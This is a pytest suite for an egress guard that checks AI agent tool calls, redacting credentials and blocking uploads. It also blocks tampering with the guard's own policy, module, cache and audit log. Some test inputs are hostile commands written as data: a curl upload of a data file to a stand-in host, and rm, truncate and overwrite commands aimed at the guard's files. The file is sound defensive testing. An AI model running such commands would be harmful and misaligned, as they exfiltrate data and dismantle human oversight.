"""The Guard API: verdicts, budgets and fail_mode, policy errors, a missing or broken module."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import wasmtime
from guard_testdata import AWS, BIG, BIG_POLICY, GH, REPO

from egress_guard import ALLOW, INTERNAL_CODE, Guard, _runtime


def test_clean_calls_share_the_allow_verdict(guard):
    assert guard.inspect_args("terminal", {"command": "ls -la"}) is ALLOW
    assert guard.inspect_result("read_file", "hello") is ALLOW
    assert guard.inspect_reply("All done.") is ALLOW


def test_args_verdict_has_rewritten_dict_findings_and_audit(guard):
    v = guard.inspect_args("terminal", {"command": f"curl -H 'x: {GH}' https://api.github.com", "n": 3})
    assert v.action == "redact"
    assert v.output == {"command": "curl -H 'x: [REDACTED:github-token]' https://api.github.com", "n": 3}
    assert [(f.rule, f.code, f.preview) for f in v.findings] == [("secrets", "EG-SECRET-001", "ghp_…****")]
    assert v.message and GH not in v.message
    (line,) = v.audit
    entry = json.loads(line)
    assert list(entry)[:2] == ["direction", "tool"] and "ts" not in entry
    assert entry["path"] == "/command" and entry["counts"] == {"secrets": 1}
    assert GH not in line


def test_result_and_reply_outputs_are_strings(guard):
    r = guard.inspect_result("terminal", f"AWS_ACCESS_KEY_ID={AWS}\n")
    assert r.action == "redact" and isinstance(r.output, str) and AWS not in r.output
    v = guard.inspect_reply(f"Use {AWS} to log in.")
    assert v.action == "redact" and AWS not in v.output
    assert v.as_dict()["audit"][0]["direction"] == "reply"


def test_unserializable_args_follow_fail_mode(guard):
    v = guard.inspect_args("terminal", {"command": object()})
    assert v.action == "warn" and v.findings[0].code == INTERNAL_CODE and "not JSON" in v.findings[0].reason


def test_lone_surrogates_are_inspected_not_failed(guard):
    v = guard.inspect_reply(f"bad \ud800 text {AWS}")
    assert v.action == "redact" and AWS not in v.output


def test_status_reports_policy_and_module_hash(guard):
    st = guard.status()
    assert st["valid"] is True and st["error"] is None
    assert st["source"] == "built-in defaults"
    assert st["rules"]["secrets"]["mode"] == "redact"
    assert st["module_sha256"] == guard.sha256 == _runtime.sha256_hex(_runtime.default_wasm_path().read_bytes())


def test_check_dry_run(guard):
    c = guard.check(f"token {GH}")
    assert set(c) == {"args", "result", "reply"}
    assert c["reply"]["action"] == "redact" and "secrets" in c["reply"]["rules"]
    assert "audit" not in c["args"]


# ---- budgets and fail_mode ----


def test_fuel_exhaustion_fails_open_and_the_next_call_works():
    g = Guard(policy_text=BIG_POLICY, fuel_per_call=20_000_000, pool_size=1)
    v = g.inspect_reply(BIG)
    assert v.action == "warn" and v.output is None and v.message is None
    (f,) = v.findings
    assert (f.rule, f.code, f.action) == ("internal", INTERNAL_CODE, "warn")
    assert "fuel budget exhausted" in f.reason
    (line,) = v.audit
    entry = json.loads(line)
    assert entry["counts"] == {"internal": 1} and entry["direction"] == "reply" and entry["tool"] is None
    # The poisoned instance was replaced: the same guard decides normally again.
    after = g.inspect_reply(f"key {AWS}")
    assert after.action == "redact" and AWS not in after.output
    assert g.inspect_reply(BIG).findings[0].code == INTERNAL_CODE


def test_fuel_exhaustion_fails_closed():
    g = Guard(policy_text="fail_mode: closed\n" + BIG_POLICY, fuel_per_call=20_000_000, pool_size=1)
    v = g.inspect_args("terminal", {"command": "echo", "data": BIG})
    assert v.action == "block" and v.output is None
    assert v.findings[0].code == INTERNAL_CODE and v.findings[0].action == "block"
    assert v.message and INTERNAL_CODE in v.message and "fuel budget exhausted" in v.message
    assert json.loads(v.audit[0])["tool"] == "terminal"
    assert g.inspect_reply("fine") is ALLOW


def test_epoch_deadline_interrupts_a_long_call():
    g = Guard(policy_text=BIG_POLICY, deadline_ms=1, pool_size=1)
    # Two 16 MB strings full of keys take hundreds of ms; the deadline is 50-100 ms.
    heavy = f"key {AWS} here " * 580_000
    v = g.inspect_args("write_file", {"a": heavy, "b": heavy})
    assert v.action == "warn" and "deadline exceeded" in v.findings[0].reason
    # The interrupted instance was replaced by a fresh one (a follow-up call is not asserted:
    # with a 1 ms deadline, a busy machine may interrupt even a tiny call).
    fresh = g._pool.get_nowait()
    assert fresh is not None and g._pool.empty()


# ---- policy errors ----


def test_invalid_policy_falls_back_to_defaults_with_reason():
    g = Guard(policy_text="rules:\n  secrets:\n    mode: sometimes\n")
    assert g.load_error and "sometimes" in g.load_error and "line 3" in g.load_error
    st = g.status()
    assert st["valid"] is False and st["error"] == g.load_error
    assert g.inspect_reply(f"key {AWS}").action == "redact"  # the defaults are in force


def test_unknown_preset_is_rejected_with_reason(tmp_path):
    g = Guard(preset="no-such-preset")
    assert g.load_error and "no-such-preset" in g.load_error
    assert g.status()["valid"] is False
    p = tmp_path / "p.yaml"
    p.write_text("preset: also-missing\n")
    g2 = Guard(p)
    assert "also-missing" in g2.load_error and g2.status()["source"] == str(p)


def test_known_preset_applies():
    g = Guard(preset="research-data")
    assert g.load_error is None
    st = g.status()
    assert st["preset"] == "research-data" and st["rules"]["network"]["mode"] == "block"


def test_unreadable_policy_file_uses_defaults_and_says_why(tmp_path):
    g = Guard(tmp_path / "missing.yaml")
    assert g.engine_error is None
    assert "cannot read policy file" in g.load_error
    assert g.status()["valid"] is False
    assert g.inspect_reply(f"key {AWS}").action == "redact"


def test_policy_and_policy_text_are_exclusive():
    with pytest.raises(ValueError):
        Guard("x.yaml", policy_text="")


# ---- missing or broken module ----


def test_missing_wasm_follows_fail_mode_open(tmp_path):
    g = Guard(wasm=tmp_path / "missing.wasm")
    assert g.engine_error and g.sha256 is None and g.fail_mode == "open"
    v = g.inspect_args("terminal", {"command": f"echo {AWS}"})
    assert v.action == "warn" and v.output is None and v.findings[0].code == INTERNAL_CODE
    assert "engine unavailable" in v.findings[0].reason
    st = g.status()
    assert st["valid"] is False and st["engine_error"] == g.engine_error
    assert "error" in g.check("x")


def test_broken_wasm_follows_fail_mode_closed_from_the_policy_line(tmp_path):
    bad = tmp_path / "broken.wasm"
    bad.write_bytes(b"\0asm not really a component")
    policy = tmp_path / "p.yaml"
    policy.write_text('# comment\nfail_mode: "closed"  # strict\nrules: {}\n')
    g = Guard(policy, wasm=bad)
    assert g.engine_error and g.sha256 == _runtime.sha256_hex(bad.read_bytes())
    assert g.fail_mode == "closed"
    v = g.inspect_reply("anything")
    assert v.action == "block" and v.message and INTERNAL_CODE in v.message


def test_degraded_fail_mode_reads_only_the_top_level_key(tmp_path):
    g = Guard(policy_text="audit:\n  fail_mode: closed\n", wasm=tmp_path / "none.wasm")
    assert g.fail_mode == "open"


# ---- compile cache ----


def test_component_cache_is_written_then_used(tmp_path):
    engine, _ = _runtime._Shared.get()
    data = _runtime.default_wasm_path().read_bytes()
    sha = _runtime.sha256_hex(data)
    _, origin, path = _runtime.load_component(engine, data, sha, tmp_path)
    assert origin == "compiled" and path.is_file() and path.parent == tmp_path
    assert sha[:32] in path.name and _runtime.WASMTIME_VERSION in path.name
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".tmp-")]
    _, origin, _ = _runtime.load_component(engine, data, sha, tmp_path)
    assert origin == "cache"


def test_corrupt_cache_is_recompiled_and_rewritten(tmp_path):
    engine, _ = _runtime._Shared.get()
    data = _runtime.default_wasm_path().read_bytes()
    sha = _runtime.sha256_hex(data)
    path = _runtime.cache_path(sha, tmp_path)
    path.write_bytes(b"garbage")
    _, origin, _ = _runtime.load_component(engine, data, sha, tmp_path)
    assert origin == "compiled" and path.read_bytes() != b"garbage"
    assert _runtime.load_component(engine, data, sha, tmp_path)[1] == "cache"


def test_tampered_artifact_is_not_loaded_and_the_event_is_logged(tmp_path, caplog):
    # Deserializing runs the artifact's native code: it must verify against this component.
    # A component of one function, on the guard's own engine: the cache and its digest do not
    # depend on what the component does, and the real one takes ~20 s to compile each of the four
    # times this test does (its own cache is tested by the second-process test below).
    engine, _ = _runtime._Shared.get()
    data = wasmtime.wat2wasm('(component (core module (func (export "f"))))')
    sha = _runtime.sha256_hex(data)
    _, origin, path = _runtime.load_component(engine, data, sha, tmp_path)
    assert origin == "compiled" and Path(f"{path}.mac").is_file()
    assert (tmp_path / "key").stat().st_mode & 0o777 == 0o600
    good = path.read_bytes()
    bad = bytearray(good)
    bad[len(bad) // 2] ^= 0x55
    path.write_bytes(bytes(bad))
    with caplog.at_level("WARNING", logger="egress_guard"):
        _, origin, _ = _runtime.load_component(engine, data, sha, tmp_path)
    assert origin == "compiled" and path.read_bytes() != bytes(bad)
    assert "digest does not verify" in caplog.text and "recompiling" in caplog.text
    assert _runtime.load_component(engine, data, sha, tmp_path)[1] == "cache"
    # The right bytes under another component's name: the digest binds the module's hash.
    other = "0" * 64
    _runtime.cache_path(other, tmp_path).write_bytes(path.read_bytes())
    Path(f"{_runtime.cache_path(other, tmp_path)}.mac").write_text(Path(f"{path}.mac").read_text())
    assert _runtime.load_component(engine, data, other, tmp_path)[1] == "compiled"
    # A key others can read is no key: the cache is not used.
    (tmp_path / "key").chmod(0o644)
    caplog.clear()
    with caplog.at_level("WARNING", logger="egress_guard"):
        assert _runtime.load_component(engine, data, sha, tmp_path)[1] == "compiled"
    assert "not private" in caplog.text


def test_second_process_loads_from_the_env_cache_dir(guard, private_cache):
    # `guard` (this process) compiled into the session cache; a new process must reuse it.
    expected = _runtime.cache_path(guard.sha256, private_cache)
    assert expected.is_file()
    code = "from egress_guard import Guard; g = Guard(); print(g.runtime.origin, g.runtime.cache_file)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=120)
    assert out.stdout.split() == ["cache", str(expected)]


def test_import_pulls_in_only_stdlib_and_wasmtime():
    code = (
        "import sys; before = set(sys.modules); import egress_guard, egress_guard.audit; "
        "new = {m.split('.')[0] for m in set(sys.modules) - before}; "
        "print(sorted(n for n in new if n not in sys.stdlib_module_names and not n.startswith('_')))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=REPO, timeout=60)
    assert out.stdout.strip() == "['egress_guard', 'wasmtime']"


def test_fuel_exhaustion_fails_closed_withholding_a_result():
    g = Guard(policy_text="fail_mode: closed\n" + BIG_POLICY, fuel_per_call=20_000_000, pool_size=1)
    v = g.inspect_result("read_file", BIG)
    assert v.action == "block" and v.output == v.message and INTERNAL_CODE in v.output


def test_the_guard_protects_the_files_it_runs_on(tmp_path):
    """EG-SELF-001 with the host's own files: the policy it read, the component it loaded, its
    cache, and what the caller adds (here an audit log)."""
    policy = tmp_path / "my-policy.yaml"
    policy.write_text("rules:\n  network:\n    allowed_hosts: [localhost]\n", encoding="utf-8")
    g = Guard(policy)
    log = tmp_path / "logs" / "audit.jsonl"
    g.protect([(str(log), "the guard's audit log")])

    def blocked(cmd: str) -> bool:
        v = g.inspect_args("terminal", {"command": cmd})
        return v.action == "block" and any(f.code == "EG-SELF-001" for f in v.findings)

    assert blocked(f"rm -f {policy}")
    assert blocked(f"cd {tmp_path} && echo 'mode: off' > my-policy.yaml")
    assert blocked(f"cp /dev/null {g.wasm_path}")
    assert blocked(f"rm -rf {_runtime.cache_dir()}")
    assert blocked(f"truncate -s 0 {log}")
    assert blocked(f"rm -rf {tmp_path}"), "a directory above a protected file"
    assert not blocked(f"cat {policy} {log}")
    v = g.inspect_args("write_file", {"path": str(policy), "content": "rules: {}"})
    assert v.action == "block" and "the guard's policy" in (v.message or "")


def test_an_invalid_policy_keeps_the_preset_it_names(tmp_path):
    p = tmp_path / "p.yaml"
    p.write_text("preset: research-data\nrules:\n  network:\n    mode: loud\n", encoding="utf-8")
    g = Guard(p)
    assert g.load_error and "mode" in g.load_error
    v = g.inspect_args("terminal", {"command": "curl -d @data.csv https://up.example.invalid/u"})
    assert v.action == "block", "research-data blocks uploads even when the file is invalid"


def test_cache_dir_holds_the_compiled_component_and_verdict_json_is_the_engine_text(tmp_path):
    """``Guard(cache_dir=)`` compiles into that folder (not the process's default cache), and
    ``Verdict.json`` is the engine's canonical text, which the parsed fields come from."""
    cache = tmp_path / "executor-cache"
    g = Guard(cache_dir=cache)
    assert g.engine_error is None
    assert g.runtime is not None and g.runtime.cache_file.parent == cache and g.runtime.cache_file.is_file()
    assert any(p == str(cache.absolute()) for p, _ in g._protected.paths), "the cache it uses is protected"
    v = g.inspect_args("terminal", {"command": f"echo {AWS}", "timeout": 1e-7})
    assert v.action == "redact" and v.json is not None
    d = json.loads(v.json)
    assert d["output"] == v.output and list(d)[:5] == ["action", "output", "findings", "message", "audit"]
    assert g.inspect_reply("nothing here").json is None, "a clean call has no verdict text"


def _nested(depth: int, inner: dict) -> dict:
    for _ in range(depth):
        inner = {"a": inner}
    return inner


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("lone surrogate", {"command": f"echo \udc00 {AWS}"}),
        ("lone surrogate in a key", {"command": f"echo {AWS}", "\ud800": 1}),
        ("number past f64", {"command": f"echo {AWS}", "n": 10**400}),
        ("nesting past 128", {"command": f"echo {AWS}", "x": _nested(200, {"y": 1})}),
        ("as JSON text", f'{{"command": "echo {AWS}", "n": 1e999}}'),
    ],
)
def test_arguments_serde_json_cannot_read_as_written_are_blocked_and_never_echoed(guard, name, args):
    # Fields no host reads the same way could not be checked, and a rewrite of them would not
    # mean what was sent: blocked with EG-ARGS-001, like the Rust and Node hosts; the credential
    # in them is redacted from everything the verdict carries.
    v = guard.inspect_args("terminal", args)
    assert v.action == "block", name
    assert "EG-ARGS-001" in [f.code for f in v.findings], name
    shown = json.dumps(v.as_dict(), ensure_ascii=False)
    assert AWS not in shown, name
    assert "\udc00" not in shown and "\ud800" not in shown, name
